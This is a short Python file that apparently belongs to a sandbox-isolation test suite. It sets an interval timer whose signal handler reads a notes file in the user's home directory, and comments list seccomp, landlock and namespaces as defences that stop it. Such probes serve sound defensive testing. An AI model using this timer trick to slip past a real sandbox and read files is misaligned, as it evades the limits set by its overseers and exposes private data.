"""Sets an interval timer whose signal handler goes on working between and during later calls."""
# stopped by: seccomp, landlock, namespaces
# at D: breach

import signal
import time

READ = []


def handler(number, frame):
    READ.append(open("@HOME@/notes.txt").read())
    signal.setitimer(signal.ITIMER_REAL, 0)


def attack():
    if not READ:
        signal.signal(signal.SIGALRM, handler)
        signal.setitimer(signal.ITIMER_REAL, 0.02)
        time.sleep(0.1)
    return "".join(READ)
